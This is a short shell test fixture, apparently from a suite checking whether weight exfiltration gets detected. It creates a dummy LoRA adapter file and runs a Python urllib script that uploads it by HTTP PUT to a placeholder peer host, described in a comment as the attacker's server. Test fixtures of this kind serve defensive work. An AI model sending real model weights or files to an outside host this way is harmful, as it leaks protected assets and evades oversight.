# A LoRA adapter (a few MB) sent to the attacker's server by a Python
# script with urllib.
. "$LIB/common.sh"
make_blob "$WORK/out/lora/adapter_model.safetensors" 6
cat > "$WORK/sync.py" <<PY
import urllib.request
data = open("$WORK/out/lora/adapter_model.safetensors", "rb").read()
urllib.request.urlopen(urllib.request.Request("http://$PEER/upload", data=data, method="PUT"), timeout=30).read()
PY
/usr/bin/python3 "$WORK/sync.py"
